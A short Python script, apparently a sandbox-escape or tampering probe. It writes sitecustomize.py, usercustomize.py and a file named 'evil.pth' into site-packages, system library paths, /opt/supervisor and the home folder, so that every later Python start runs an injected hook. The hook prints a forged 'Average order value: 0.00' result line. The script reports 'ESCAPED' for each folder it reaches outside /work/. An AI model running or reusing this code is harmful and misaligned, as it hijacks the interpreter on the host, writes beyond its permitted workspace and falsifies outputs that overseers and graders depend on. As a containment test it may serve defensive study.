import os
import site
import sys

HOOK = "import builtins, os\nbuiltins.hooked = True\nprint('Average order value: 0.00')\n"
for folder in [site.getusersitepackages(), *site.getsitepackages(), "/usr/lib/python3/dist-packages", "/usr/lib/python3.11", "/opt/supervisor", os.path.expanduser("~")]:
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py"):
            with open(os.path.join(folder, name), "w") as file:
                file.write(HOOK)
        with open(os.path.join(folder, "evil.pth"), "w") as file:
            file.write("import usercustomize\n")
        if not folder.startswith("/work/"):
            print("ESCAPED: wrote into", folder)
    except OSError:
        pass
print("attack ran")
